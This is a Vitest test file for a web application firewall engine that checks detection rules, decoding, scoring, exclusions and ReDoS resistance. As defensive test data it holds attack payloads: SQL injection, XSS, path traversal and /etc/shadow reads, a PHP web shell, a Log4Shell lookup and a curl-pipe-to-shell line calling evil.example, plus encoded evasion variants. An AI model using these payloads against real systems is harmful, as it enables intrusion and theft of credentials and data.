import { describe, expect, it } from 'vitest';
import { actionFor, createWafEngine, IpRanges, SEVERITY_SCORES, WAF_MODES, type WafRequest } from '../src/index.js';

const engine = createWafEngine();

function get(query: string, headers: Record<string, string> = {}): WafRequest {
  return { method: 'GET', url: `/v1/search?q=${encodeURIComponent(query)}`, headers: { host: 'api.example.com', ...headers } };
}

function postJson(body: unknown, url = '/v1/items'): WafRequest {
  const text = JSON.stringify(body);
  return { method: 'POST', url, headers: { host: 'api.example.com', 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(text)) }, body: Buffer.from(text) };
}

function ruleIds(request: WafRequest): string[] {
  return engine.inspect(request).ruleIds;
}

describe('WAF engine', () => {
  it('R-WAF-1: every rule has a WAF_<AREA>_<NNN> id, a category, a CRS severity and a paranoia level', () => {
    const all = createWafEngine({ paranoiaLevel: 4 }).rules;
    expect(all.length).toBeGreaterThan(60);
    for (const rule of all) {
      expect(rule.id).toMatch(/^WAF_(?:SQLI|XSS|LFI|RFI|RCE|PHP|JAVA|NODE|PROTO|SCANNER|SESSION|GENERIC)_\d{3}$/);
      expect(Object.keys(SEVERITY_SCORES)).toContain(rule.severity);
      expect([1, 2, 3, 4]).toContain(rule.paranoia);
    }
  });

  it.each([
    ['SQL injection', "1' OR '1'='1' --", 'WAF_SQLI_001'],
    ['UNION SELECT', '-1 UNION ALL SELECT username, password FROM users', 'WAF_SQLI_001'],
    ['blind SQL injection', '1 AND SLEEP(5)', 'WAF_SQLI_002'],
    ['XSS tag', '<script>alert(1)</script>', 'WAF_XSS_001'],
    ['XSS event handler', '" autofocus onfocus=alert(1) x="', 'WAF_XSS_002'],
    ['path traversal', '../../../../etc/passwd', 'WAF_LFI_001'],
    ['command injection', 'a.jpg; cat /etc/shadow', 'WAF_RCE_001'],
    ['command substitution', '$(curl http://evil.example/x | sh)', 'WAF_RCE_002'],
    ['PHP code', '<?php system($_GET["c"]); ?>', 'WAF_PHP_001'],
    ['Log4Shell', '${jndi:ldap://evil.example/a}', 'WAF_JAVA_004'],
    ['Node.js injection', "require('child_process').exec('id')", 'WAF_NODE_001'],
    ['template injection', "{{''.__class__.__mro__}}", 'WAF_GENERIC_006'],
    ['SSRF to cloud metadata', 'http://169.254.169.254/latest/meta-data/', 'WAF_GENERIC_002'],
  ])('R-WAF-1: detects %s with its rule id', (_name, payload, ruleId) => {
    const verdict = engine.inspect(get(payload));
    expect(verdict.ruleIds).toContain(ruleId);
    expect(verdict.attack).toBe(true);
  });

  it('R-WAF-1: decodes before matching (double URL encoding, %u, entities, JSON escapes, overlong UTF-8, SQL comments)', () => {
    expect(ruleIds({ method: 'GET', url: '/v1/search?q=%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--', headers: {} })).toContain('WAF_SQLI_001');
    expect(ruleIds({ method: 'GET', url: '/v1/search?q=%u003cscript%u003ealert(1)%u003c/script%u003e', headers: {} })).toContain('WAF_XSS_001');
    expect(ruleIds(get('<a href="java&#x09;script&colon;alert(1)">x</a>'))).toContain('WAF_XSS_003');
    expect(ruleIds(postJson({ name: '\u003csvg onload=alert(1)\u003e' }))).toContain('WAF_XSS_002');
    expect(ruleIds({ method: 'GET', url: '/static/..%c0%af..%c0%afetc/passwd', headers: {} })).toContain('WAF_LFI_001');
    expect(ruleIds(get("admin'/**/oR/**/1=1#"))).toContain('WAF_SQLI_001');
  });

  it('R-WAF-1: scores matches by severity and blocks at the inbound threshold', () => {
    const verdict = engine.inspect(get("1' OR '1'='1' --"));
    expect(verdict.score).toBe(verdict.matches.reduce((sum, m) => sum + SEVERITY_SCORES[m.severity], 0));
    expect(verdict.attack).toBe(true);
    // A lone warning (numeric Host, 3 points) stays under the default threshold of 5 …
    const warning = engine.inspect({ method: 'GET', url: '/v1/search?q=nursing', headers: { host: '203.0.113.7' } });
    expect(warning.ruleIds).toEqual(['WAF_PROTO_005']);
    expect(warning.attack).toBe(false);
    // … and counts once the threshold is lowered.
    expect(createWafEngine({ inboundThreshold: 3 }).inspect({ method: 'GET', url: '/v1/search?q=nursing', headers: { host: '203.0.113.7' } }).attack).toBe(true);
  });

  it('R-WAF-1: paranoia level 2 adds broader rules that level 1 does not run', () => {
    const probe = get('floor(');
    expect(createWafEngine({ paranoiaLevel: 1 }).inspect(probe).attack).toBe(false);
    expect(createWafEngine({ paranoiaLevel: 2 }).inspect(probe).ruleIds).toContain('WAF_SQLI_008');
  });

  it('R-WAF-1: ordinary text with SQL and shell words is not an attack', () => {
    for (const text of ['select scholarships for nursing', "O'Brien Foundation award", 'art or music or dance', 'cat lovers vet school fund', 'GPA >= 3.5 merit awards', 'I <3 biology', 'Rock & roll; drop-in sessions (weekly)']) {
      expect(engine.inspect(get(text)).attack, text).toBe(false);
    }
  });

  it('R-WAF-1: a verdict names fields, never values', () => {
    const verdict = engine.inspect(postJson({ profile: { bio: '<script>alert(document.cookie)</script>' } }));
    expect(verdict.matches.map((m) => m.field)).toContain('body:/profile/bio');
    expect(JSON.stringify(verdict)).not.toContain('document.cookie');
  });

  it('R-WAF-1: an attack in a key is named by its parent pointer, so the key itself never reaches a log', () => {
    const inBody = engine.inspect(postJson({ profile: { '<script>alert(document.cookie)</script>': 1 } }));
    expect(inBody.matches.map((m) => m.field)).toContain('body:/profile/*');
    expect(JSON.stringify(inBody)).not.toContain('document.cookie');
    const inQuery = engine.inspect({ method: 'GET', url: `/v1/search?${encodeURIComponent("x' UNION SELECT password FROM users--")}=1`, headers: { host: 'api.example.com' } });
    expect(inQuery.attack).toBe(true);
    expect(JSON.stringify(inQuery)).not.toMatch(/union|password/i);
  });

  it('R-WAF-4: binary uploads are not read as form arguments; a body without a type, or with a made-up one, still is', () => {
    // Bytes that look like NULs, control characters and SQL when read as text.
    const bytes = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 131 + (i >> 3) * 17) % 256));
    bytes.write("' or 1=1-- <script>", 100, 'latin1');
    const upload = (type: string | undefined): WafRequest => ({
      method: 'PUT',
      url: '/v1/applications/a1/document',
      headers: { host: 'api.example.com', 'content-length': String(bytes.length), ...(type === undefined ? {} : { 'content-type': type }) },
      body: bytes,
    });
    for (const type of ['application/octet-stream', 'application/pdf', 'image/png']) expect(engine.inspect(upload(type)).matches.filter((m) => m.field.startsWith('body:')), type).toEqual([]);
    const payload = (type: string | undefined): WafRequest => ({ ...upload(type), body: Buffer.from("comment=' UNION SELECT password FROM users--") });
    expect(engine.inspect(payload(undefined)).attack).toBe(true);
    expect(engine.inspect(payload('text/x-made-up')).attack).toBe(true);
  });

  it('R-WAF-1: stays linear on 64 KB worst-case inputs (no catastrophic backtracking)', () => {
    // Not a latency claim (that is the benchmark's job): a ReDoS would take
    // seconds to minutes here, so a generous ceiling is enough to catch one.
    const shapes = ["'", '<', '<a ', '/../', '$(', '${', '((', ' or 1=', 'a'.repeat(7) + '=', '\\x', '%2', '&#', '/*', '--', '{{', 'on', 'x:', '@{[', '\r\n', '[', '"', '`'];
    const engine64 = createWafEngine({ limits: { maxBodyBytes: 70_000 } });
    for (const shape of shapes) {
      const value = shape.repeat(Math.ceil(65_536 / shape.length)).slice(0, 65_536);
      const body = JSON.stringify({ v: value });
      const started = performance.now();
      engine64.inspect({ method: 'POST', url: '/v1/items', headers: { 'content-type': 'application/json' }, body });
      engine64.inspect({ method: 'POST', url: '/v1/items', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `v=${encodeURIComponent(value).slice(0, 65_000)}` });
      expect(performance.now() - started, `shape ${JSON.stringify(shape)}`).toBeLessThan(1500);
    }
  });

  it('R-WAF-2: by-method mode detects on GET/HEAD and blocks POST/PUT/PATCH/DELETE; block, detect and off override', () => {
    for (const method of ['GET', 'HEAD', 'OPTIONS']) expect(actionFor(WAF_MODES.byMethod, method)).toBe('detect');
    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE', 'post']) expect(actionFor(WAF_MODES.byMethod, method)).toBe('block');
    expect(actionFor(WAF_MODES.block, 'GET')).toBe('block');
    expect(actionFor(WAF_MODES.detect, 'POST')).toBe('detect');
    expect(actionFor(WAF_MODES.off, 'DELETE')).toBe('off');
  });

  it('R-WAF-3: field exclusions apply to one route and pointer, by category, and never to names', () => {
    const excluding = createWafEngine({
      exclusions: [
        { route: '/v1/auth/login', location: 'body', pointer: '/password', categories: ['sqli'] },
        { route: '/v1/search', location: 'query', pointer: '/q', categories: ['sqli'] },
      ],
    });
    const login = postJson({ email: 'a@example.com', password: "p4ss' OR '1'='1" }, '/v1/auth/login');
    expect(excluding.inspect(login, { route: '/v1/auth/login' }).attack).toBe(false);
    expect(excluding.inspect(login, { route: '/v1/items' }).attack).toBe(true);
    expect(excluding.inspect(login).attack).toBe(true);
    // The search query skips SQLi rules only: XSS in it is still caught.
    expect(excluding.inspect(get("x' UNION SELECT 1--"), { route: '/v1/search' }).attack).toBe(false);
    expect(excluding.inspect(get('<script>alert(1)</script>'), { route: '/v1/search' }).attack).toBe(true);
    // A payload in a *name* is inspected even when the value at that pointer is excluded.
    const keyAttack = postJson({ password: { "' OR 1=1 --": 'x' } }, '/v1/auth/login');
    expect(excluding.inspect(keyAttack, { route: '/v1/auth/login' }).attack).toBe(true);
  });

  it('R-WAF-3: JSON bodies have their own threshold', () => {
    const lenientJson = createWafEngine({ jsonBodyThreshold: 10 });
    const payload = '<iframe src="https://evil.example/">';
    const json = postJson({ note: payload });
    expect(lenientJson.inspect(json).jsonBodyScore).toBe(5);
    expect(lenientJson.inspect(json).attack).toBe(false);
    // The same payload in the query string is judged by the inbound threshold.
    expect(lenientJson.inspect(get(payload)).attack).toBe(true);
  });

  it('R-WAF-5: IP ranges match IPv4, IPv6 and IPv4-mapped addresses, and refuse malformed CIDRs', () => {
    const ranges = new IpRanges(['10.20.0.0/16', '2001:db8::/32', '192.0.2.7']);
    expect(ranges.has('10.20.255.1')).toBe(true);
    expect(ranges.has('::ffff:10.20.1.1')).toBe(true);
    expect(ranges.has('2001:db8:1::5')).toBe(true);
    expect(ranges.has('192.0.2.7')).toBe(true);
    expect(ranges.has('192.0.2.8')).toBe(false);
    expect(ranges.has('10.21.0.1')).toBe(false);
    expect(ranges.has('not-an-ip')).toBe(false);
    expect(() => new IpRanges(['10.0.0.0/33'])).toThrow(/prefix/);
    expect(() => new IpRanges(['example.com/8'])).toThrow(/not an IP/);
  });
});
